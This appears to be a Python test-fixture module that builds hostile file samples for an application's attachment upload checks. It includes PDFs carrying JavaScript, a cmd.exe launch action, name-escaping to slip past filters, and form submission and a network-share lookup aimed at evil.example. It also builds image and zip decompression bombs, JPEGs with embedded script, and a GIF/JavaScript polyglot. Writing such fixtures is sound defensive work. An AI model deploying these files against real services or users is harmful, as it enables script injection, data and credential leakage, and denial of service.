"""Files that attack: those who read them, who keep them, and who are handed them."""

import io
import struct
import zipfile
import zlib
from typing import Any

from PIL import Image
from pypdf import PdfReader, PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

from tests.attachments.samples import document, encoded, picture

SCRIPT = b"<script>fetch('/api/v1/trips/')</script>"
HTML = b"<!doctype html><html><body>" + SCRIPT + b"</body></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">' + SCRIPT + b"</svg>"
GPS_MARK = b"secret-place-of-the-camera"


def pdf_with(**root: Any) -> bytes:
    """A PDF with more in its catalogue."""
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(document())))
    for name, value in root.items():
        writer._root_object[NameObject(f"/{name}")] = value
    return written(writer)


def written(writer: PdfWriter) -> bytes:
    found = io.BytesIO()
    writer.write(found)
    return found.getvalue()


def names(**values: Any) -> DictionaryObject:
    return DictionaryObject({NameObject(f"/{name}"): value for name, value in values.items()})


def action(kind: str, **more: Any) -> DictionaryObject:
    return names(S=NameObject(f"/{kind}"), **more)


def pdf_script() -> bytes:
    return pdf_with(OpenAction=action("JavaScript", JS=TextStringObject("app.alert(1)")))


def pdf_script_by_an_escaped_name() -> bytes:
    return pdf_script().replace(b"/JavaScript", b"/Java#53cript").replace(b"/JS", b"/J#53")


def pdf_launch() -> bytes:
    return pdf_with(OpenAction=action("Launch", F=TextStringObject("cmd.exe")))


def pdf_that_sends_its_form() -> bytes:
    return pdf_with(AA=names(WC=action("SubmitForm", F=TextStringObject("https://evil.example/"))))


def pdf_that_reads_a_share() -> bytes:
    return pdf_with(OpenAction=action("GoToE", F=TextStringObject("\\\\evil.example\\share")))


def pdf_with_a_file(name: str, content: bytes) -> bytes:
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(document())))
    writer.add_attachment(name, content)
    return written(writer)


def pdf_locked() -> bytes:
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(document())))
    writer.encrypt("secret", algorithm="AES-256")
    return written(writer)


def pdf_of_many_objects() -> bytes:
    """400,000 empty dictionaries."""
    many = ArrayObject([ArrayObject([DictionaryObject() for _ in range(1000)]) for _ in range(400)])
    return pdf_with(Many=many)


def png_bomb(side: int) -> bytes:
    """A PNG of so many pixels squared, all of them white, in a few hundred kilobytes."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    row = b"\x00" + b"\xff" * (side // 8)
    packer = zlib.compressobj(9)
    body = b"".join(packer.compress(row) for _ in range(side)) + packer.flush()
    head = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", body) + chunk(b"IEND", b"")


def png_text_bomb() -> bytes:
    """A PNG whose comment unpacks to 300 MB."""
    packed = zlib.compress(b"x" * 300_000_000, 9)
    body = b"Comment\x00\x00" + packed
    chunk = struct.pack(">I", len(body)) + b"zTXt" + body + struct.pack(">I", zlib.crc32(b"zTXt" + body))
    plain = picture("PNG")
    return plain[:33] + chunk + plain[33:]


def zip_bomb() -> bytes:
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("ticket.pdf", b"\x00" * 50_000_000)
    return held.getvalue()


def jpeg_with_position() -> bytes:
    exif = Image.Exif()
    exif[0x010E] = GPS_MARK.decode()
    exif[0x0112] = 6  # on its side
    place = exif.get_ifd(0x8825)
    place[1], place[2], place[3], place[4] = "N", (35.0, 2.0, 22.0), "E", (135.0, 43.0, 46.0)
    return picture("JPEG", (120, 80), exif=exif)


def jpeg_with_html_behind_it() -> bytes:
    return picture("JPEG") + HTML


def jpeg_with_html_in_its_comment() -> bytes:
    return picture("JPEG", (64, 48), comment=HTML)


def gif_and_script() -> bytes:
    """A GIF that is JavaScript, too."""
    return b"GIF89a=1/*" + b"\x00" * 20 + b"*/;alert(1)"


def animated_webp() -> bytes:
    frames = [Image.new("RGB", (40, 30), colour) for colour in ("red", "blue", "green")]
    return encoded(frames[0], "WEBP", save_all=True, append_images=frames[1:])


def animated_png() -> bytes:
    frames = [Image.new("RGB", (40, 30), colour) for colour in ("red", "blue", "green")]
    return encoded(frames[0], "PNG", save_all=True, append_images=frames[1:])
